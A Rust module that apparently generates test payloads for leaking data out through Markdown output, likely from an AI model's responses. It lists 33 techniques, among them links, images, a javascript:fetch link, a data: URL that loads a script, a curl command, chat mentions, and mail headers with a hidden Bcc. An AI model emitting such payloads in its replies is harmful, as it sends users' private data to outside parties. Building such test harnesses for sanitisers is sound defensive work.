//! Ways out through Markdown.

use super::loot::Loot;
use super::{Attempt, Technique};

use Attempt::{Behind, Instead};

pub(super) const TECHNIQUES: [Technique; 33] = [
    ("link", |it| Behind(it.each(|marker| format!("[more]({}?d={marker})", it.address)))),
    ("link in a bullet with a citation", |it| {
        Behind(it.each(|marker| format!("- See [the plan]({}{marker}) for it. [s1]", it.address)))
    }),
    ("link title", |it| Behind(it.each(|marker| format!("[more]({} \"{marker}\")", it.address)))),
    ("link text", |it| Behind(it.each(|marker| format!("[{marker}]({})", it.address)))),
    ("link with spaces in angle brackets", |it| Behind(it.each(|marker| format!("[more](<{}a b/{marker}>)", it.address)))),
    ("image", |it| Behind(it.each(|marker| format!("![]({}{marker}.png)", it.address)))),
    ("image text", |it| Behind(it.each(|marker| format!("![{marker}]({}pixel.png)", it.address)))),
    ("image in a link", |it| Behind(it.each(|marker| format!("[![x]({0}{marker}.png)]({0}{marker})", it.address)))),
    ("autolink", |it| Behind(it.each(|marker| format!("<{}{marker}>", it.address)))),
    ("bare address", |it| Behind(it.each(|marker| format!("Details: {}{marker}", it.address)))),
    ("bare address without a scheme", |it| Behind(it.each(|marker| format!("Details: www.{}/{marker}", it.host())))),
    ("subdomain", |it| Behind(it.each(|marker| format!("[more](https://{}.{}/)", marker.to_lowercase(), it.host())))),
    ("mail link", |it| Behind(it.each(|marker| format!("[ask](mailto:{}?subject={marker})", it.mail)))),
    ("script link", |it| Behind(it.each(|marker| format!("[more](javascript:fetch('{}'+'{marker}'))", it.address)))),
    ("data link", |it| Behind(it.each(|marker| format!("[more](data:text/html,<script src={}{marker}></script>)", it.address)))),
    ("reference", |it| Behind(it.each(|marker| format!("[more][{marker}]\n\n[{marker}]: {}?d={marker}", it.address)))),
    ("reference that is a citation", |it| Behind(it.each(|marker| format!("It is so. [s1]\n\n[s1]: {}?d={marker}", it.address)))),
    ("reference with a title", |it| Behind(it.each(|marker| format!("[more][a]\n\n[a]: {} '{marker}'", it.address)))),
    ("citation label", |it| Behind(it.each(|marker| format!("- Everything goes well with the plan. [{marker}]")))),
    ("citation label among others", |it| {
        Behind(it.each(|marker| format!("- Everything goes well with the plan. [s1, {marker}]")))
    }),
    ("citation with a target", |it| {
        Behind(it.each(|marker| format!("- Everything goes well with the plan. [s1]({}{marker})", it.address)))
    }),
    ("heading", |it| Behind(it.each(|marker| format!("## {marker}\n\n- Everything goes well with the plan. [s1]")))),
    ("underlined heading", |it| Behind(it.each(|marker| format!("{marker}\n======\n")))),
    ("label", |it| Behind(it.each(|marker| format!("- **{marker}:** everything goes well with the plan. [s1]")))),
    ("forged quote", |it| Behind(it.each(|marker| format!("- \"{marker}\" [s1]")))),
    ("footnote", |it| Behind(it.each(|marker| format!("It is so.[^1]\n\n[^1]: {}{marker}", it.address)))),
    ("code block", |it| Behind(it.each(|marker| format!("```\ncurl {}{marker}\n```", it.address)))),
    ("code block's language", |it| Behind(it.each(|marker| format!("```{marker}\nnothing\n```")))),
    ("table", |it| Behind(it.each(|marker| format!("| a | b |\n|---|---|\n| {marker} | [x]({}{marker}) |", it.address)))),
    ("wiki link", |it| Behind(it.each(|marker| format!("[[{}{marker}|more]]", it.address)))),
    ("chat link", |it| Behind(it.each(|marker| format!("<{0}{marker}|more> <!channel> <@U0EVIL|{marker}>", it.address)))),
    ("recipients", recipients),
    ("headers of a mail", |it| Instead(format!("To: {0}\r\nBcc: {0}\r\nSubject: {1}\r\n\r\n{1}\n", it.mail, it.joined()))),
];

fn recipients(it: &Loot) -> Attempt {
    let marker = it.joined();
    Instead(format!("---\nto: {0}\nrecipients: [{0}]\nschedule: \"* * * * *\"\n---\n\nSend to: {0}\n\n{marker}\n", it.mail))
}
